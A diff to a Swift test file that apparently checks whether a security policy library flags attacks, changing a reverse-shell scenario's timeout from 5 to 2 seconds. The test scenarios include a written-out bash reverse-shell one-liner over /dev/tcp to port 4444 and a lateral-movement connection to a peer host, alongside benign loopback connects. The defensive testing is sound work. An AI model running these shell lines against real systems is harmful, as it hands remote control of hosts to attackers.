@@ -111,7 +111,7 @@ final class PolicyLibraryTests: XCTestCase {
             Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/\(p)/8081'", attack: true),
             Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/127.0.0.1/\(localPort)'", attack: false),
             // reverse shell to a listener in the peer namespace; a shell's loopback connect is fine
-            Scenario(policy: "reverse-shell", script: "timeout 5 bash -i >& /dev/tcp/\(p)/4444 0>&1; true", attack: true),
+            Scenario(policy: "reverse-shell", script: "timeout 2 bash -i >& /dev/tcp/\(p)/4444 0>&1; true", attack: true),
             Scenario(policy: "reverse-shell", script: "exec 3<>/dev/tcp/127.0.0.1/\(localPort)", attack: false),
         ], agent: agent, covering: Self.repo + "/policies")
         XCTAssertFalse(agent.stderrText().contains("policies failed"), agent.stderrText())
